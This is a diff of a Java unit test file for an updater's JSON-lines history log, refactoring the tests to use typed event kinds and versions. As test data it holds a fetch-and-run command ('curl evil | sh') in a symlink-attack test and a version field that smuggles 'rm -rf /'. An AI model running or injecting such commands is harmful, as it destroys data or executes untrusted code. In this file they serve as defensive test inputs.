@@ -2,6 +2,7 @@ package dev.updater.core.home;
 
 import dev.updater.core.ErrorCode;
 import dev.updater.core.UpdaterException;
+import dev.updater.core.version.ReleaseVersion;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
 
@@ -22,32 +23,35 @@ class HistoryTest {
     @Test
     void append_writesOneJsonObjectPerLine_andReadReturnsThemInOrder() throws Exception {
         Path file = dir.resolve("history.jsonl");
-        HistoryEvent staged = new HistoryEvent(Instant.parse("2026-02-07T12:00:00Z"), "staged", "1.3.0", null, "ok");
-        HistoryEvent installed = new HistoryEvent(Instant.parse("2026-02-07T12:01:00Z"), "installed", "1.3.0", "1.2.0",
+        HistoryEvent staged = new HistoryEvent(Instant.parse("2026-02-07T12:00:00Z"), HistoryEvent.Kind.STAGED,
+                v("1.3.0"), null, "ok");
+        HistoryEvent installed = new HistoryEvent(Instant.parse("2026-02-07T12:01:00Z"),
+                HistoryEvent.Kind.INSTALLED, v("1.3.0"), v("1.2.0"),
                 "swapped");
-        History.append(file, staged);
-        History.append(file, installed);
+        history(file).append(staged);
+        history(file).append(installed);
 
         assertEquals(2, Files.readAllLines(file).size());
         assertEquals("{\"at\":\"2026-02-07T12:00:00Z\",\"event\":\"staged\",\"version\":\"1.3.0\",\"detail\":\"ok\"}",
                 Files.readAllLines(file).get(0));
-        assertEquals(List.of(staged, installed), History.read(file));
+        assertEquals(List.of(staged, installed), history(file).read());
     }
 
     @Test
     void read_skipsALineTornByACrash_andKeepsTheOthers() throws Exception {
         Path file = dir.resolve("history.jsonl");
-        HistoryEvent first = new HistoryEvent(Instant.parse("2026-02-07T12:00:00Z"), "checked", null, null, "up to date");
-        History.append(file, first);
+        HistoryEvent first = new HistoryEvent(Instant.parse("2026-02-07T12:00:00Z"), HistoryEvent.Kind.CHECKED,
+                null, null, "up to date");
+        history(file).append(first);
         Files.writeString(file, "{\"at\":\"2026-02-07T12:0", StandardOpenOption.APPEND);
-        assertEquals(List.of(first), History.read(file));
-        History.append(file, first);
-        assertEquals(List.of(first, first), History.read(file), "the event after a torn line starts a line of its own");
+        assertEquals(List.of(first), history(file).read());
+        history(file).append(first);
+        assertEquals(List.of(first, first), history(file).read(), "the event after a torn line starts a line of its own");
     }
 
     @Test
     void read_missingFile_isEmpty() throws Exception {
-        assertEquals(List.of(), History.read(dir.resolve("none.jsonl")));
+        assertEquals(List.of(), history(dir.resolve("none.jsonl")).read());
     }
 
     @Test
@@ -57,8 +61,9 @@ class HistoryTest {
         Files.setLastModifiedTime(victim, before);
         Path link = Files.createSymbolicLink(dir.resolve("history.jsonl"), victim);
 
-        UpdaterException e = assertThrows(UpdaterException.class, () -> History.append(link,
-                new HistoryEvent(Instant.parse("2026-03-02T09:30:00Z"), "failed", "1.1.0", null, "curl evil | sh")));
+        UpdaterException e = assertThrows(UpdaterException.class, () -> history(link).append(
+                new HistoryEvent(Instant.parse("2026-03-02T09:30:00Z"), HistoryEvent.Kind.FAILED, v("1.1.0"), null,
+                "curl evil | sh")));
 
         assertEquals(ErrorCode.HOME_INSECURE, e.code());
         assertEquals(link + " is a symbolic link to " + victim + "; the update home's files are plain files, and a"
@@ -66,5 +71,39 @@ class HistoryTest {
                 + ") and find out who planted it.", e.getMessage());
         assertEquals("export PATH=/usr/bin\n", Files.readString(victim));
         assertEquals(before, Files.getLastModifiedTime(victim));
+    }
+
+    @Test
+    void everyKind_isWrittenByItsWireName_andReadBack() throws Exception {
+        Path file = dir.resolve("history.jsonl");
+        for (HistoryEvent.Kind kind : HistoryEvent.Kind.values()) {
+            history(file).append(new HistoryEvent(Instant.parse("2026-02-07T12:00:00Z"), kind, null, null, "d"));
+        }
+
+        assertEquals(List.of("checked", "staged", "installed", "healthy", "rolled-back", "quarantined", "failed").stream()
+                .map(name -> "{\"at\":\"2026-02-07T12:00:00Z\",\"event\":\"" + name + "\",\"detail\":\"d\"}").toList(),
+                Files.readAllLines(file));
+        assertEquals(List.of(HistoryEvent.Kind.values()), history(file).read().stream().map(HistoryEvent::event).toList());
+    }
+
+    @Test
+    void read_skipsALineWithAnUnknownEventOrABadVersion_likeATornOne() throws Exception {
+        Path file = dir.resolve("history.jsonl");
+        Files.writeString(file, """
+                {"at":"2026-02-07T12:00:00Z","event":"overlap-started","version":"1.3.0"}
+                {"at":"2026-02-07T12:00:01Z","event":"staged","version":"9.9.9; rm -rf /"}
+                {"at":"2026-02-07T12:00:02Z","event":"installed","version":"v1.3.0","from":"1.2.0"}
+                """);
+
+        assertEquals(List.of(new HistoryEvent(Instant.parse("2026-02-07T12:00:02Z"), HistoryEvent.Kind.INSTALLED,
+                v("1.3.0"), v("1.2.0"), null)), history(file).read());
+    }
+
+    private static History history(Path file) {
+        return new History(file);
+    }
+
+    private static ReleaseVersion v(String text) throws UpdaterException {
+        return ReleaseVersion.parse(text);
     }
 }
